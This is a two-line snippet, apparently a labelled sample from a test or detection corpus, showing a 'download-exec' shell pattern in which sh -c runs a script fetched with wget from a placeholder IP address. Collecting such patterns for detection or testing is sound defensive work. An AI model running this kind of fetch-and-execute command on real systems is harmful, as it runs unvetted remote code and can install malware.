# download-exec: sh -c runs the output of a download in command substitution
sh -c "$(wget -O- http://203.0.113.7/s)"
